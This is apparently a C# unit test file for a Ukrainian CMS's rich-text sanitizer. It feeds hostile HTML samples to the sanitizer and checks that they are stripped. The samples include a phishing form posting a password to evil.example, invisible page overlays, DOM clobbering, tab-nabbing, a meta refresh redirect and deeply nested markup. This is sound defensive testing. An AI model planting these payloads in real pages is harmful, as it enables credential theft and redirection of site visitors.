using System.Diagnostics;
using System.Text;
using MayorsClub.Core.Content;
using MayorsClub.Core.Content.DocumentTypes;
using MayorsClub.Core.Content.Validation;

namespace MayorsClub.Tests.Unit;

/// <summary>
/// Rich text keeps what the editor's toolbar makes and nothing an attacker could use once an editor publishes it:
/// phishing forms, page-covering overlays, DOM clobbering, tab-nabbing; and markup nested deep enough to stall the
/// sanitizer is refused before it runs.
/// </summary>
public sealed class RichTextHardeningTests
{
    private readonly ContentValidator _validator = new(new PropertyValueValidator(RichTextSanitizer.Create()));

    private static IEnumerable<TestCaseData> Payloads()
    {
        yield return new TestCaseData(
            "<p>Увійдіть знову</p><form action=\"https://evil.example/steal\" method=\"post\"><input type=\"text\" name=\"email\"><input type=\"password\" name=\"password\"><button>Увійти</button></form>",
            new[] { "<form", "<input", "<button", "evil.example", "password" }, "<p>Увійдіть знову</p>").SetName("a phishing form with a password field");
        yield return new TestCaseData(
            "<p>Текст</p><a href=\"https://evil.example/\" style=\"position:fixed;inset:0;z-index:2147483647;opacity:0\">.</a>",
            new[] { "style", "position", "z-index", "opacity" }, "<a href=\"https://evil.example/\">.</a>").SetName("an invisible full-page link (inline style overlay)");
        yield return new TestCaseData(
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white\"><p>Сайт переїхав</p></div>",
            new[] { "style", "position" }, "<p>Сайт переїхав</p>").SetName("a page-covering block (inline style)");
        yield return new TestCaseData(
            "<p id=\"csrf\" name=\"config\">Абзац</p><img src=\"/media/x.png\" name=\"getElementById\" id=\"location\" alt=\"x\"><a id=\"defaultView\" href=\"/uk/\">дім</a>",
            new[] { " id=", " name=" }, "<p>Абзац</p>").SetName("id and name attributes (DOM clobbering)");
        yield return new TestCaseData(
            "<p><a href=\"https://example.org/\" target=\"_blank\">нова вкладка</a></p>",
            Array.Empty<string>(), "<a href=\"https://example.org/\" target=\"_blank\" rel=\"noopener noreferrer\">нова вкладка</a>").SetName("target=_blank gets rel=noopener noreferrer");
        yield return new TestCaseData(
            "<p><a href=\"https://example.org/\" target=\"_blank\" rel=\"opener\">нова вкладка</a></p>",
            new[] { "rel=\"opener\"" }, "rel=\"noopener noreferrer\"").SetName("rel=opener is replaced");
        yield return new TestCaseData(
            "<p><a href=\"https://example.org/\" target=\"parent-frame\" rel=\"nofollow\">посилання</a></p>",
            new[] { "target", "rel" }, "<a href=\"https://example.org/\">посилання</a>").SetName("other targets and rels are dropped");
        yield return new TestCaseData(
            "<p class=\"modal-backdrop visually-hidden\">Клас</p><span data-action=\"logout\">дані</span>",
            new[] { "class", "data-action" }, "<p>Клас</p>").SetName("classes and data attributes");
        yield return new TestCaseData(
            "<style>body{display:none}</style><link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><p>Текст</p>",
            new[] { "<style", "<link", "<meta", "evil.example", "display" }, "<p>Текст</p>").SetName("style sheets, links and meta refresh");
        yield return new TestCaseData(
            "<p>Текст</p><select><option>1</option></select><textarea>x</textarea><object data=\"x.swf\"></object><embed src=\"x.swf\">",
            new[] { "<select", "<option", "<textarea", "<object", "<embed" }, "<p>Текст</p>").SetName("other form controls and plug-ins");
    }

    [TestCaseSource(nameof(Payloads))]
    public void Payload_IsDisarmed_AndTheTextAroundItIsKept(string html, string[] gone, string kept)
    {
        var saved = Saved(html);

        foreach (var text in gone)
        {
            Assert.That(saved, Does.Not.Contain(text), $"\"{text}\" in {saved}");
        }

        Assert.That(saved, Does.Contain(kept));
    }

    [Test]
    public void WhatTheEditorMakes_IsKeptAsItIs()
    {
        const string html =
            "<h2>Заголовок</h2><h3>Підзаголовок</h3><p><strong>жирний</strong> <em>курсив</em> <u>підкреслений</u> <s>закреслений</s><br>рядок</p>" +
            "<blockquote><p>Цитата</p></blockquote><ul><li><p>пункт</p></li></ul><ol start=\"3\"><li><p>третій</p></li></ol><hr>" +
            "<p><a href=\"/uk/novyny/\">новини</a> <a href=\"mailto:info@mayorsclub.org.ua\">пошта</a></p>" +
            "<img src=\"/media/3f2504e0-4f89-41d3-9a0c-0305e82c3301/a.png?v=1\" alt=\"Фото\" title=\"Фото\">" +
            "<table><tbody><tr><th colspan=\"2\" rowspan=\"1\"><p>Шапка</p></th></tr><tr><td><p>1</p></td><td><p>2</p></td></tr></tbody></table>" +
            "<iframe src=\"https://www.youtube-nocookie.com/embed/abcdefghijk\" width=\"560\" height=\"315\" frameborder=\"0\" allowfullscreen=\"true\"></iframe>";

        Assert.That(Saved(html), Is.EqualTo(html));
    }

    [TestCase("<p>плоский текст</p>", 1)]
    [TestCase("<p><strong><em>три</em></strong></p>", 3)]
    [TestCase("<p>a<br>b<img src=x><hr/></p>", 1)]
    [TestCase("<ul><li><p>a</p></li><li><p>b</p></li></ul>", 3)]
    [TestCase("<i></b><i></b><i></b>", 3)]
    [TestCase("<p>1 < 2 and <!-- <i><i><i> --> text</p>", 1)]
    public void NestingDepth_IsCountedAsAParserWouldOpenAndCloseElements(string html, int depth) =>
        Assert.That(RichTextSanitizer.NestingDepth(html, stopAbove: 100), Is.EqualTo(depth));

    [Test]
    public void DeeplyNestedMarkup_IsRefusedBeforeSanitizing_WithAMessageInBothLanguages_AndQuickly()
    {
        // The probe's body: about 198 kB of nested <i>, which took the sanitizer 11 s.
        var body = new StringBuilder().Insert(0, "<i>", 28_000).Append("текст").Insert(0, "<p>").ToString();
        Assert.That(body.Length, Is.LessThan(200_000), "within the size limit: refused for its depth alone");
        var values = Article(body);

        var clock = Stopwatch.StartNew();
        var (_, errors) = _validator.Validate(NewsArticle.Definition, values);
        clock.Stop();

        var error = errors.Single();
        Assert.That((error.Code, error.Property, error.Culture), Is.EqualTo((ContentMessages.TooDeeplyNested, NewsArticle.Body, "uk")));
        Assert.That(error.Message("uk"), Does.Contain("вкладена надто глибоко").And.Contain("32"));
        Assert.That(error.Message("en"), Does.Contain("nested too deeply").And.Contain("32"));
        Assert.That(clock.Elapsed, Is.LessThan(TimeSpan.FromSeconds(1)));
    }

    [Test]
    public void MarkupAtTheDepthLimit_IsAccepted()
    {
        var html = string.Concat(Enumerable.Repeat("<blockquote>", RichTextSanitizer.MaxNestingDepth - 1)) + "<p>глибоко</p>" +
            string.Concat(Enumerable.Repeat("</blockquote>", RichTextSanitizer.MaxNestingDepth - 1));

        Assert.That(Saved(html), Does.Contain("<p>глибоко</p>"));
    }

    [Test]
    public void RichText_LongerThanTheLimit_IsRefused()
    {
        var (_, errors) = _validator.Validate(NewsArticle.Definition, Article("<p>" + new string('а', 200_001) + "</p>"));

        Assert.That(errors.Single().Code, Is.EqualTo(ContentMessages.TooLong));
    }

    private string Saved(string html)
    {
        var (clean, errors) = _validator.Validate(NewsArticle.Definition, Article(html));
        Assert.That(errors, Is.Empty, string.Join("; ", errors));
        return clean.Cultures["uk"].Values[NewsArticle.Body]!.GetValue<string>();
    }

    private static ContentValues Article(string body) => new()
    {
        Invariant = { [NewsArticle.Date] = "2026-05-11" },
        Cultures =
        {
            ["uk"] = new CultureVariant
            {
                Name = "Новина",
                Values = { [NewsArticle.Summary] = "Виклад.", [NewsArticle.Body] = body },
            },
        },
    };
}
